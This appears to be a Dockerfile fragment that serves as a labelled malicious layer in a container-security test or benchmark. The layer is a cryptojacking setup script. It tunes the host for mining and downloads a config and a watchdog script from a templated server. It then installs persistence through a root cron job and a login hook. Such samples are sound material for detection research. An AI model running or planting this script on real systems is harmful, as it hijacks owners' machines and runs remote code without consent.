
# Shell-script layer (paper Table 3, Shell script: changing system settings,
# downloading more payloads), with persistence as in public cryptojacking
# scripts. BuildKit records the whole script in this layer's history entry.
# strata:malicious=L10
RUN <<EOF
set -eu
# tune the host for CryptoNight: huge pages, more open files
mkdir -p /etc/sysctl.d /etc/security/limits.d /etc/minerd
echo 'vm.nr_hugepages=128' > /etc/sysctl.d/99-hugepages.conf
printf '%s\n' '* soft nofile 65535' '* hard nofile 65535' > /etc/security/limits.d/99-nofile.conf
# more payload: pool configuration and a watchdog that kills competing miners
curl -fsSL {{.ServerURL}}/files/config.json -o /etc/minerd/config.json || wget -q {{.ServerURL}}/files/config.json -O /etc/minerd/config.json
curl -fsSL {{.ServerURL}}/files/update.sh -o /usr/local/bin/update.sh || wget -q {{.ServerURL}}/files/update.sh -O /usr/local/bin/update.sh
chmod 755 /usr/local/bin/update.sh
# persistence: run the watchdog every minute and at every login
echo '* * * * * root /usr/local/bin/update.sh >/dev/null 2>&1' > /etc/cron.d/update
echo '/usr/local/bin/update.sh >/dev/null 2>&1 &' > /etc/profile.d/update.sh
EOF
